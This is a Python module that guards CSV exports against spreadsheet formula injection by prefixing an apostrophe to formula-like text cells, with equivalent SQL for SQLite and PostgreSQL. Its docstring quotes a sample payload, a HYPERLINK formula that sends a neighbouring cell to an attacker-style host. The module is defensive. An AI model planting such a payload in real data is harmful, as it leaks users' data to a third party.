"""Formula injection in CSV: a text cell that starts like a formula is given a leading apostrophe.

A spreadsheet opening a CSV runs a cell that starts with `=`, `+`, `-` or `@` as a formula (and a tab or a
carriage return in front of one too), so an organisation named `=HYPERLINK("https://evil.example/?d="&E2,"Voir")`
would become a live link carrying the neighbouring cells. OWASP's advice, followed here: such a *text* value is
written with a leading apostrophe (`'=HYPERLINK(…)`), which spreadsheet users know as "shown as text". Numbers,
dates, uuids and yes/no are not text values and are written unchanged (a negative amount stays `-5`). XLSX and ODS
write text cells as strings, which no spreadsheet evaluates: they are left as typed.
"""

FORMULA_STARTERS = ("=", "+", "-", "@", "\t", "\r")
NEUTRALISER = "'"


def text_cell_safe(text: str) -> str:
    """The text as a CSV cell that no spreadsheet reads as a formula."""
    return NEUTRALISER + text if text.startswith(FORMULA_STARTERS) else text


def sql_text_cell_safe(x: str, *, vendor: str) -> str:
    """SQL of the same rule over the SQL text expression `x` (not NULL), for SQLite and PostgreSQL."""
    if vendor == "sqlite":
        starters = ", ".join(f"char({ord(c)})" for c in FORMULA_STARTERS)
        return f"CASE WHEN substr({x}, 1, 1) IN ({starters}) THEN '''' || {x} ELSE {x} END"
    starters = ", ".join(f"chr({ord(c)})" for c in FORMULA_STARTERS)
    return f"CASE WHEN left({x}, 1) IN ({starters}) THEN '''' || {x} ELSE {x} END"
